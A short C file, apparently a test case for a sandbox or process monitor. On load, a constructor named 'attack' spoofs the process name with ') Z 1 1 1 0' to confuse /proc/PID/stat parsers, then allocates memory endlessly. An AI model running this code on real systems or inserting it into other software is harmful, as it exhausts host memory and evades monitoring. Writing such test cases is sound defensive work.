/* cause: sandbox-memory */
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <unistd.h>

/* A name that reads like the rest of its line in /proc/PID/stat, of a small process that is a child of init's. */
__attribute__((constructor)) static void attack(void)
{
    prctl(PR_SET_NAME, ") Z 1 1 1 0");
    for (;;) {
        char *more = malloc(16 << 20);
        if (more)
            memset(more, 1, 16 << 20);
        else
            usleep(1000);
    }
}
